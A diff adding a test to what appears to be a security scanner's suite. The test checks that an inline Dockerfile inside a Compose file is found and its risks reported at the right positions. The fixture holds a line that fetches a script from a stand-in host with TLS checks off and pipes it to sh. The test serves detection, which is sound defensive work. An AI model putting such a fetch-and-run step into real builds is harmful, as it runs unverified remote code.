@@ -46,6 +46,23 @@ FROM base AS debug
 USER root
 `;
 
+// covers: W1 P3 | compose
+test("A Dockerfile that stands in the Compose file is judged as one, once, at its places there.", () => {
+  const inline = "&text |\n        FROM alpine:3.20\n        RUN curl -k http://x.selfhost.net/i | sh\n";
+  const system = read({
+    "compose.yaml": `services:\n  app:\n    build:\n      dockerfile_inline: ${inline}  other:\n    build: {dockerfile_inline: *text}\n`,
+  });
+  const files = system.all("repository-file").filter(({ configuration }) => configuration?.software === "dockerfile");
+  expect(files.map(({ ref, path, isPart }) => [ref.name, path.split("/").at(-1), isPart])).toEqual([
+    [expect.stringContaining("compose.yaml/dockerfile_inline of app"), "compose.yaml", true],
+  ]);
+  const [configuration] = files.map((file) => file.configuration);
+  const risks = configuration?.software === "dockerfile" ? configuration.risks.items : [];
+  expect(risks.length).toBeGreaterThan(0);
+  for (const { place } of risks) expect(describePlace(place)).toMatch(/compose\.yaml:6:\d+$/);
+  expect(system.all("image").some(({ place }) => describePlace(place).endsWith("compose.yaml:5:14"))).toBe(true);
+});
+
 describe("A service that is built from a Dockerfile of the repository", () => {
   // covers: W1 W8 | compose
   test("has what the stage brings that is its target, by the arguments that are given.", () => {
